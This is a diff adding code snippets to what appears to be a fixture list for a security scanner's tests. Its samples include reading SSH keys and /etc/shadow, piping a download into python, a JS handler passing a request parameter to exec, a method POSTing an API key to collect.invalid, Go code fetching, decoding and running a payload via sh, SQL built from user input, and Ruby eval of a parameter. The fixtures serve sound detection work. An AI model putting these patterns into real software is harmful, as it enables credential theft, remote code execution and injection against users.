@@ -39,6 +39,10 @@ SNIPPETS = [
     (".py", "#", 'requests.get("http://localhost:8080/x")\nrequests.post("https://h.invalid/api/v1")\nopen("~/.ssh/id_rsa")\nrandom.shuffle(cards)\ncursor.execute(f"SELECT a FROM b")\ncursor.execute("SELECT 1")\nos.system("a" + b)\nprint(os.environ["HOME"])\nprint(os.environ)\n'),
     (".js", "//", "const n = Math.random();\nbox.innerHTML = text;\nel.outerHTML = `${props.name}`;\nJSON.parse(userInput);\nfs.readFile(base + name, done);\nfetch('https://api.github.com/x');\nchild_process.exec(`ls ${dir}`);\nnew Function('a', b)('c');\natob(x); eval(y)\nreturn f'<b>{x}'\n"),
     (".sh", "#", "cat /etc/shadow\nsudo chmod u+s tool\nsudo ls\ncrontab -e\nls /etc/cron.daily\nsystemctl daemon-reload\ncp x ~/.config/autostart\ndocker run img | sh\ngo get http://x.invalid/y\npip install git+https://pypi.org/x\nnpm install https://registry.npmjs.org/z\nwget https://x.invalid/y | python\nTOKEN='AbCdEfGhIjKlMnOpQrSt1234'\npassword: 'your_password'\nreg add HKEY_LOCAL_MACHINE\n"),
+    (".js", "//", "const { exec } = require('child_process');\nfunction handle(req, res) {\n    const cmd = req.query.cmd;\n    const line = cmd;\n    exec(line);\n}\nclass Box {\n    async send(key) {\n        const apiKey = process.env.API_KEY;\n        const body = apiKey;\n        return fetch('https://collect.invalid/u', { method: 'POST', body });\n    }\n}\nconst each = list => list.map(x => handle(x));\n"),
+    (".go", "//", 'package main\nimport "net/http"\nfunc run() error {\n\tresp, err := http.Get("https://files.invalid/p")\n\tdata := resp.Body\n\ttext := base64.StdEncoding.DecodeString(data)\n\tcmd := exec.Command("sh", "-c", text)\n\treturn cmd.Run()\n}\nfunc main() {\n\trun()\n}\n'),
+    (".java", "//", 'import java.sql.Statement;\npublic class Users {\n    public void find(String id) throws Exception {\n        String name = request.getParameter("n");\n        String query = "SELECT a" + name;\n        Statement.executeQuery(query);\n        list(query);\n    }\n    private void list(String q) {\n        find(q);\n    }\n}\n'),
+    (".rb", "#", "require 'yaml'\ndef load(q)\n  name = params[:name]\n  text = name\n  eval text if q\n  load(text)\nend\n"),
 ]
 
 
